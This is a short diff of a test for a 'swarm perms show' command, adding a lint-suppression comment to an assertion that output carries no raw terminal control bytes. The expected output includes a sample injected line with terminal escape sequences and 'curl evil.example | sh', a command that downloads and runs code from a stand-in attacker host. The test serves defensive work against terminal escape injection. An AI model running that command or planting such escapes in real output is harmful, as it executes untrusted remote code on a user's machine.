@@ -56,6 +56,7 @@ describe('swarm perms show', () => {
     const shown = await swarm(['perms', 'show', 't', '0be1e5'])
     expect(shown.code, shown.stderr).toBe(0)
     expect(shown.stdout.split('\n').slice(1)).toEqual(['echo ok', '␛[2J␛]0;title␇curl evil.example | sh'])
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: a byte a terminal acts on is what is looked for
     expect(shown.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/)
   })
 
